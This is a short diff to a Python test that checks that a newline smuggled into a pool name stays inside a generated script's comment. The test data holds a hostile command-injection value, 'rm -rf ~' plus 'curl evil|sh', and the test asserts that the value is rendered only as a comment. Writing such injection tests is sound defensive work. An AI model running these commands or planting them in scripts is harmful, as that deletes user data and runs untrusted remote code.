@@ -43,6 +43,6 @@ def test_a_newline_in_a_pool_name_stays_inside_the_scripts_comment(tmp_path, cap
     fleet_file.write_text(json.dumps(fleet))
     assert main(["config", str(log), "--fleet", str(fleet_file), "--engine", "vllm"]) == 0
     script = capsys.readouterr().out
-    assert "# ######## pool rag rm -rf ~ # curl evil|sh ########" in script
+    assert "# ######## pool rag rm -rf ~ # curl evil|sh: vLLM ########" in script
     # every line that mentions the payload is a comment
     assert all(line.startswith("#") for line in script.splitlines() if "rm -rf" in line or "curl" in line)
